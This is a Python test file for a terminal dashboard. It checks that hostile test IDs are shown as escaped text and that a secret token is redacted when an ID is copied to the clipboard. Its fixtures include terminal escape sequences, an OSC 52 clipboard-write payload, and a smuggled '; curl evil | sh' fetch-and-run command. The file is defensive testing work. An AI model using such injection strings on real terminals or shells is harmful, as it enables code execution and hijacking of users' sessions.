"""The command center shows hostile ids as typed escapes and copies exactly what it shows."""

from __future__ import annotations

from pathlib import Path

from claimcheck.collectors.config import Config, PhaseConfig
from claimcheck.collectors.models import (
    PhaseStarted,
    TestFinished,
    TestResult,
    TestsCollected,
)
from claimcheck.tui.app import ClaimcheckApp
from claimcheck.tui.widgets.failures import FailureList, failure_key

from tests.conftest import workers_done

T0 = 1_700_000_000.0
SECRET = "ghp_LONGTOKENABCDEFGHIJKLMNOPQRST"
IDS = [
    "tests/test_x.py::test_id[\x1b[31m]",
    "tests/test_x.py::test_id[\x1b[2J]",
    "tests/test_x.py::test_id[\x1b]52;c;ZWNobyBwd25lZA==\x07]",
    "tests/test_x.py::test_id[a\rOVERWRITE]",
    f"tests/test_x.py::test_id[x\n; curl evil | sh #{SECRET}]",
]


def new_app() -> ClaimcheckApp:
    config = Config(root=Path("/srv/shop"), source=None, python="python",
                    phases=(PhaseConfig("unit", pytest=("tests",)),), gaps=(),
                    secrets=(SECRET,))
    return ClaimcheckApp(config, autostart=False, clock=lambda: T0 + 5, read_git=False,
                         started_at=T0)


async def test_copy_puts_one_escaped_redacted_line_on_the_clipboard() -> None:
    app = new_app()
    async with app.run_test(size=(120, 40)) as pilot:
        app.ingest(PhaseStarted("unit", ("python", "-m", "pytest"), T0))
        app.ingest(TestsCollected("unit", len(IDS)))
        for nodeid in IDS:
            app.ingest(TestFinished("unit", TestResult(nodeid=nodeid, outcome="failed",
                                                       phase="unit", duration_s=0.1,
                                                       message="boom")))
        app.flush()
        await pilot.pause()
        await workers_done(app)
        await pilot.pause()
        await pilot.press("3")
        table = app.query_one(FailureList)
        copied = []
        for nodeid in IDS:
            table.move_cursor(row=table.get_row_index(failure_key("unit", nodeid)))
            await pilot.press("c")
            copied.append(app.clipboard)

    for text in copied:
        assert "\n" not in text and "\r" not in text and "\x1b" not in text and "\x07" not in text
    assert len(set(copied)) == len(IDS)  # distinct ids stay distinct
    assert copied[0] == "tests/test_x.py::test_id[\\x1b[31m]"
    assert copied[3] == "tests/test_x.py::test_id[a\\rOVERWRITE]"
    assert copied[4] == "tests/test_x.py::test_id[x\\n; curl evil | sh #***]"
